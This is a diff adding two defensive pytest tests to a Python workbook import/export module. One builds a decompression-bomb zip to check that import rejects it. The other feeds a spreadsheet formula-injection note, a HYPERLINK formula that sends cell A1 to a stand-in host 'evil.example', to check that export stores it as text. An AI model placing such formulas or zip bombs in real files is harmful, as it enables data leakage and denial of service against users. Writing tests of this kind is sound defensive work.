@@ -322,3 +322,40 @@ def test_percentage_typed_directly_is_reported() -> None:
         (f"K{rows['R.4.i.-']}", "R.4.i.-")
     ]
     assert "isi baris Jumlah" in imported.errors[0].message
+
+
+def test_import_refuses_a_workbook_that_unpacks_enormously() -> None:
+    import io as _io
+    import zipfile as _zipfile
+
+    from sizi.lke.instrument import load_instrument
+    from sizi.lke.workbook import import_workbook
+
+    buffer = _io.BytesIO()
+    with _zipfile.ZipFile(buffer, "w", _zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("xl/workbook.xml", b"<workbook/>")
+        archive.writestr("xl/worksheets/sheet1.xml", b"<c>0</c>" * 2_000_000)
+
+    result = import_workbook(buffer.getvalue(), load_instrument())
+
+    assert result.ok is False
+    assert "mengembang" in result.errors[0].message
+
+
+def test_exported_notes_that_look_like_formulas_stay_text() -> None:
+    import io as _io
+
+    from openpyxl import load_workbook as _load
+
+    from sizi.lke.instrument import load_instrument
+    from sizi.lke.workbook import export_workbook
+
+    spec = load_instrument()
+    code = spec.questions[0].code
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
+
+    data = export_workbook(spec, {}, {}, notes={code: evil})
+
+    sheet = _load(_io.BytesIO(data))["LKE ZI"]
+    cells = [c for row in sheet.iter_rows() for c in row if c.value == evil]
+    assert [c.data_type for c in cells] == ["s"]
